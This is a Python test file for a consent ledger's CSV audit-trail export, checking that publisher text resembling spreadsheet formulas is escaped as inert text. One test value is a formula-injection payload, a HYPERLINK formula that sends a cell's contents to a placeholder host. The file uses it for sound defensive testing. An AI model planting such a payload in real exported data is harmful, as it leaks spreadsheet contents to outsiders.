"""The CSV trail a compliance officer opens in a spreadsheet."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from ledger.application import ConsentLedger
from ledger.envelope import parse_fact
from ledger.receipt import Receipt
from projections.trail import _FORMULA_START, subject_trail, text_cell, trail_csv
from tests.facts import grant


def test_a_publishers_text_that_looks_like_a_formula_is_a_text_cell(
    ledger: ConsentLedger,
) -> None:
    """The JSON trail keeps what the publisher sent; the CSV makes it inert."""
    event_id = '=HYPERLINK("http://example.test/?leak="&A1)'
    [receipt] = ledger.record(
        [parse_fact(grant("csv-subject", event_id=event_id, source="@SUM(1+1)"))]
    )
    assert isinstance(receipt, Receipt) and receipt.sid is not None
    trail = subject_trail(ledger, "demo", ledger.sid("demo", "csv-subject"))
    assert trail is not None
    [fact] = trail["facts"]
    assert (fact["event_id"], fact["source"]) == (event_id, "@SUM(1+1)")
    header, row = list(csv.reader(io.StringIO(trail_csv(trail))))
    cells = dict(zip(header, row, strict=True))
    assert cells["event_id"] == "'" + event_id
    assert cells["source"] == "'@SUM(1+1)"
    assert cells["type"] == "consent.granted"  # the ledger's own words are as they are


@settings(max_examples=300)
@given(st.text())
def test_a_text_cell_never_starts_a_formula_and_hides_nothing(value: str) -> None:
    cell = text_cell(value)
    assert not cell.startswith(_FORMULA_START)
    assert cell in (value, "'" + value)
    assert cell == value or value.startswith(_FORMULA_START)
